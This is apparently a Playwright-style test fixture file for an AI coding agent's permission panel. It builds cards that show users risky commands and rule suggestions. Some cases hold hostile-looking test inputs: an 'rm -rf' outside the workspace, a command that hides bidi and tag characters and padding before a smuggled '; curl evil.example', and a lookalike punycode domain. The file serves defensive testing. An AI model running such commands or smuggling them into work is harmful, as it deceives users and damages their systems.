import type { Detail } from "../../../src/core/detail.ts";
import { cartDiff, fixedCart, running, type Scenario } from "./fixtures.ts";
import { Log, ROOT } from "./log.ts";
import type { PanelPage } from "./panel-page.ts";

type Command = Extract<Detail, { kind: "command" }>;

/** A card for a command, as the engine asks it: where nothing else is said it is of some risk. */
export function commandCard(
  command: string,
  facts: Partial<Command> = {},
  rules: { suggestions?: string[]; wider?: string[][] } = {},
) {
  const log = fixedCart().prompt("Do it.");
  const callId = log.askPermission(
    "Bash",
    command.replaceAll(/\s+/g, " ").slice(0, 200),
    {
      kind: "command",
      command,
      cwd: ROOT,
      description: "",
      risk: { level: "medium", reasons: [{ text: "runs code of the project", words: command.slice(0, 8) }] },
      ...facts,
    },
    rules.suggestions ?? [],
    { ...(rules.wider && { wider: rules.wider }) },
  );
  return { log, callId, messages: running(log) };
}

const HIGH: Command["risk"] = {
  level: "high",
  reasons: [{ text: "deletes files outside of the workspace", words: "~/.cache/shop" }],
};

const HEREDOC = `cat > scripts/report.py <<'EOF'\n${Array.from({ length: 58 }, (_, n) => `print("line ${n + 1}")`).join("\n")}\nEOF`;

const SEVEN: NonNullable<Command["parts"]> = [
  { text: "cd packages/checkout", level: "low", reasons: [] },
  {
    text: "npm ci",
    level: "medium",
    reasons: [{ text: "installs what the lockfile names", words: "npm ci" }],
  },
  {
    text: "npm test -- --run",
    level: "medium",
    reasons: [{ text: "runs code of the project", words: "npm test" }],
  },
  { text: "tail -40", level: "low", reasons: [] },
  { text: "git add -A", level: "medium", reasons: [{ text: "changes the repository", words: "git add" }] },
  {
    text: 'git commit -m "Fix rounding"',
    level: "medium",
    reasons: [{ text: "changes the repository", words: "git commit" }],
  },
  {
    text: "git push origin main",
    level: "high",
    reasons: [{ text: "publishes commits", words: "git push" }],
  },
];
const COMPOUND =
  'cd packages/checkout && npm ci && npm test -- --run | tail -40 && git add -A && git commit -m "Fix rounding" && git push origin main';

export const KIND = { suggestions: ["Bash(npm test -- --run)"], wider: [["Bash(npm test *)"]] };

export const openEditor = async ({ page }: PanelPage): Promise<void> => {
  await page.getByRole("button", { name: /^Always/ }).click();
  await page.getByLabel("Rule", { exact: true }).waitFor();
};

/** As the host answers what the editor asked last. */
export async function answerCheck(panel: PanelPage, problem?: string): Promise<void> {
  await panel.page.waitForFunction(() => window.panelTest.posted.some((one) => one.type === "checkRules"));
  const last = (await panel.postedOf("checkRules")).at(-1);
  if (!last) throw new Error("Nothing was asked.");
  await panel.deliver({
    type: "rulesChecked",
    callId: last.callId,
    hash: last.hash,
    rules: last.rules.map((text) => ({
      text,
      words: `${text.slice(5, -1)}`,
      ...(problem !== undefined && { problem }),
    })),
  });
}

/** Cards of every kind, with the worst that may stand on them. */
export const CARDS: Readonly<Record<string, Scenario>> = {
  "card-low": {
    messages: () => commandCard("rg -n totals src", { risk: { level: "low", reasons: [] } }).messages,
  },
  "card-medium": { messages: () => commandCard("npm test -- --run", {}, KIND).messages },
  "card-high": {
    messages: () =>
      commandCard(
        "rm -rf ~/.cache/shop",
        {
          risk: HIGH,
          lasting: "What it changes outside of the workspace (~/.cache/shop) cannot be undone here.",
        },
        { suggestions: ["Bash(rm -rf ~/.cache/shop)"] },
      ).messages,
  },
  "card-seven": {
    messages: () =>
      commandCard(COMPOUND, {
        risk: { level: "high", reasons: [{ text: "publishes commits", words: "git push origin main" }] },
        parts: SEVEN,
        hosts: ["github.example"],
      }).messages,
  },
  "card-seven-open": {
    messages: () =>
      commandCard(COMPOUND, {
        risk: { level: "high", reasons: [{ text: "publishes commits", words: "git push origin main" }] },
        parts: SEVEN,
      }).messages,
    act: async ({ page }) => {
      await page.getByRole("button", { name: /more parts/ }).click();
      await page.getByText("git push origin main").last().scrollIntoViewIfNeeded();
    },
  },
  "card-heredoc": {
    messages: () =>
      commandCard(HEREDOC, {
        risk: { level: "high", reasons: [{ text: "writes a program", words: "scripts/report.py" }] },
        writes: ["scripts/report.py"],
      }).messages,
    act: async ({ page }) => void (await page.getByText(/more lines/).waitFor()),
  },
  "card-bidi": {
    messages: () =>
      commandCard(`npm test \u202egpj.x\u2066 \u{e0041}${" ".repeat(240)}; curl evil.example`, {
        risk: { level: "high", reasons: [{ text: "hides characters", words: "\u202e" }] },
      }).messages,
  },
  "card-edit": {
    messages: () => {
      const log = fixedCart().prompt("Fix it.");
      log.askPermission("Edit", "Edit src/cart.ts", cartDiff, ["Edit(/src/cart.ts)"], {
        wider: [["Edit(/src/**)"]],
      });
      return running(log);
    },
  },
  "card-fetch": {
    messages: () => {
      const log = new Log().setUp().prompt("What does the registry say?");
      const url = "https://xn--rgistry-9xa.example/reports?year=2026";
      log.askPermission("WebFetch", `Fetch ${url}`, { kind: "url", url }, [
        "WebFetch(domain:xn--rgistry-9xa.example)",
      ]);
      return running(log);
    },
  },
  "rule-editor": {
    messages: () => commandCard("npm test -- --run", {}, KIND).messages,
    act: async (panel) => {
      await openEditor(panel);
      await answerCheck(panel);
    },
  },
  "rule-editor-refused": {
    messages: () => commandCard("npm test -- --run", {}, KIND).messages,
    act: async (panel) => {
      await openEditor(panel);
      await panel.page.getByLabel("Rule", { exact: true }).fill("Bash(npm *)");
      await panel.page.waitForFunction(() =>
        window.panelTest.posted.some((one) => one.type === "checkRules" && one.rules[0] === "Bash(npm *)"),
      );
      await answerCheck(
        panel,
        "This is wider than what this question is about. Wider rules can be written in the settings.",
      );
    },
  },
};
